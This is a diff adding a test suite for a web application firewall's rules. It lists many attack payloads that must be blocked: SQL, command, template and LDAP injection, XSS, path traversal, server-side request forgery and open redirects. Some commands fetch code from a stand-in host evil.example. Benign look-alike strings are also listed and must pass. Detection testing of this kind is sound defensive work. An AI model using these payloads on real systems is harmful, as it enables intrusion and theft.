@@ -1,0 +1,172 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: that is how these attacks are written
+import { matchedIds, send, sendRequest, sites } from './test-support/send.ts';
+
+/** What rules make of the structure of a value: by rule, attacks that no list of strings has, and what looks like them. */
+describe('rules by structure', () => {
+  it.each([
+    [1008, "7' or json_extract('{\"k\":5}','$.k')=5-- -"],
+    [1008, "9 or json_array_length('[4]')<8"],
+    [1008, '\' or settings @> \'{"role":"x"}\' --'],
+    [1008, '-3 union values row(7,8)-- -'],
+    [1008, '-3 union table members limit 2'],
+    [1009, "x'; drop table parts--"],
+    [1009, '4;\nselect case when 1=1 then 2 end'],
+    [1009, "x';\nupdate parts set price=0 -- "],
+    [1006, "=\"' or'"],
+    [2005, 'import("//evil.example/m.js")'],
+    [2005, 'alert.call(top,7)'],
+    [2005, '[7].find(confirm)'],
+    [2005, 'onerror=prompt;throw 7'],
+    [2005, 'f=alert,f(7)'],
+    [2005, 'location=name'],
+    [2005, 'Object.assign(self,{onerror:eval})'],
+    [3001, '..2f..2fsecret2fkey'],
+    [3005, '/etc/nsswitch.conf'],
+    [3005, '/boot/grub/grub.conf'],
+    [3005, 'd:\\System32\\Inetsrv\\metabase.xml'],
+    [3005, '/.sh_history'],
+    [3006, '/portal/web.config'],
+    [4003, 'cat$IFS/srv/x'],
+    [4003, ';${PATH:0:1}usr'],
+    [4004, 'curl evil.example'],
+    [4004, 'nslookup evil.example'],
+    [4004, 'certutil -urlcache -f http://evil.example/x x.exe'],
+    [4007, '10.0.0.7|wget evil.example'],
+    [4007, 'x\nid'],
+    [4007, '7;echo hello'],
+    [4007, "|| system('id')"],
+    [4009, "c'a't /srv/x"],
+    [4009, 'w\\ho\\ami'],
+    [4009, 'n^slookup evil.example'],
+    [4010, 'who$@ami'],
+    [4010, 'ca$()t'],
+    [7005, '<% out.println("7"); %>'],
+    [7005, 'print(md5(77))'],
+    [7005, "call_user_func('system','ls')"],
+    [7005, '<?php echo 7;unlink(__FILE__);'],
+    [8004, "__import__('os').popen('ls').read()"],
+    [8004, '"ls".execute().text'],
+    [8004, 'new ProcessBuilder("ls").start()'],
+    [8004, '{{groovy}}println(7){{/groovy}}'],
+    [8005, '{{[].class.base.subclasses()}}'],
+    [8005, '{$smarty.version}'],
+    [8005, '{{request.url}}'],
+    [10003, '<xsl:value-of select="document(\'/srv/x\')"/>'],
+    [10003, "php:function('strrev','x')"],
+    [11003, 'ldap://evil.example/x'],
+    [11003, '\\\\evil.example\\share'],
+    [11003, 'http://127.0.0.1:6379/'],
+    [11003, 'https://shop.example@evil.example/'],
+    [12004, "true, $where: '7 == 7'"],
+    [12004, "', $where: '7 == 7"],
+    [12004, "' || 'b'=='b"],
+    [13001, 'x*)((|userpassword=*)'],
+    [14004, 'gASVKwAAAAAAAACMBXBvc2l4lIwGc3lzdGVt'],
+    [14004, 'jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 1'],
+    [14004, '?__proto__[admin]=1'],
+    [15003, 'x\r\nRCPT TO: <eve@evil.example>'],
+    [15003, '7\r\nA001 LOGOUT'],
+    [18001, '/\\evil.example'],
+    [18001, '////evil.example/'],
+    [18001, '/\t/evil.example'],
+    [18003, '/go?next=//evil.example'],
+  ])('%i blocks %j', (id, value) => {
+    const audit = send(sites.medium, value);
+    expect(matchedIds(audit)).toContain(id);
+    expect(audit.interruption).toMatchObject({ action: 'deny', status: 403 });
+  });
+
+  const LONG_WORD = 'k'.repeat(300);
+  it.each([
+    [1006, `7 and ${LONG_WORD}=${LONG_WORD}`],
+    [4003, `${LONG_WORD}\`id\``],
+    [11001, `http://${LONG_WORD}@169.254.169.254/`],
+  ])('%i is not put off by a long word', (id, value) => {
+    expect(matchedIds(send(sites.medium, value))).toContain(id);
+  });
+
+  it.each([
+    [4008, '/tools?cmd=id'],
+    [4008, '/tools?run_command=cat%20notes'],
+    [7006, '/?filter[0]=phpinfo'],
+    [11004, 'http://169.254.169.254/latest'],
+    [18002, '/login?next=/%5Cevil.example'],
+    [18002, '/login?next=//shop.example%40evil.example'],
+    [18002, '/login?return_url=https:evil.example'],
+    [15001, '/%E5%98%8D%E5%98%8ASet-Cookie:x=1'],
+  ])('%i looks at names and addresses: %s', (id, target) => {
+    expect(matchedIds(sendRequest(sites.medium, { target }))).toContain(id);
+  });
+
+  it.each([
+    ['/files?cmd=ls&target=l1_Lw'],
+    ['/files?command=open'],
+    ['/docs?q=phpinfo'],
+    ['/login?next=/account&ldap_url=ldap://directory.example'],
+    ['/login?next=https://app.example/return'],
+    ['/login?next=//app.example/return'],
+  ])('let addresses through: %s', (target) => {
+    expect(matchedIds(sendRequest(sites.medium, { target }))).toEqual([]);
+  });
+
+  it.each([
+    // titles, generics, tags in sentences
+    'JavaScript: The Good Parts',
+    '`Promise<Object>`, `List<Object>`',
+    'Map<String, Object> rows = new HashMap<>();',
+    'I removed the <script> tag',
+    'I removed the <script> tag and now it loads.',
+    // shells beside documents, sums
+    'npm ci && npm test, then post {"ok": true} to the hook',
+    'cd app && make {"scripts":{"test":"jest"}}',
+    '$((1500-28))',
+    'The rest is $((1500-28)) a head',
+    'Fields are separated by “$IFS” there',
+    // SQL talked about, copied and dumped
+    'sql注入的“and 1=1”是什么？',
+    '它说 and 1=1 是什么意思',
+    "Hi Tom,\n\nthe dump:\n\nCREATE TABLE t (\n  id int\n);\nINSERT INTO t VALUES (1,'x');\nDROP TABLE IF EXISTS old;\n\nCheers",
+    '"LIKE" STAMP',
+    '"select" a room; "like" it',
+    'John & Sally or $100 & $200',
+    'if (a && b) { return c; }',
+    'function(n){n.key===e&&t(n.value)}',
+    '(a or b) and (c or d)',
+    'CREDIT UNION TABLE TENNIS, values and rows',
+    '"*"',
+    'AND 1=1 这是什么意思?',
+    'The union select committee met on Monday',
+    'Bob; DROP the mic',
+    "Don't select twice; drop the old table view. Fixes #12",
+    // scripts talked about
+    'a=b, c(d); f(x) = [1,2].map(g)',
+    'The location = Berlin; throw an error; import (x) from y',
+    'We store it in localStorage and fetch it later.',
+    // paths, files, addresses
+    'C:\\fakepath\\photo.jpg',
+    '/usr/local/jetty/lib/http.jar',
+    'file:// links are blocked',
+    '//TODO: later',
+    '\\\\server\\share is our drive',
+    'jane@example.com, joe@example.com',
+    // words of shells, directories and mail servers
+    'name|id|price',
+    'Tea; echo chambers and printf styles',
+    "c'est l'ami",
+    'pa$sword62a$5zo',
+    'From: a@b.example\nTo: c@d.example\nDATA follows',
+    'A1 SELECT pen',
+    // templates and documents
+    '{{ user.name }}, {{#if x}}y{{/if}} and {$price}',
+    '{"price":{"$gte":10}}',
+    '$where is an operator of MongoDB',
+    '<?php /** Title: x */ ?><p>Hello</p>',
+    'gASV is how a pickle begins',
+  ])('let through: %j', (text) => {
+    for (const site of [sites.low, sites.medium]) {
+      const audit = send(site, text);
+      expect(matchedIds(audit)).toEqual([]);
+      expect(audit.interruption).toBeNull();
+    }
+  });
+});
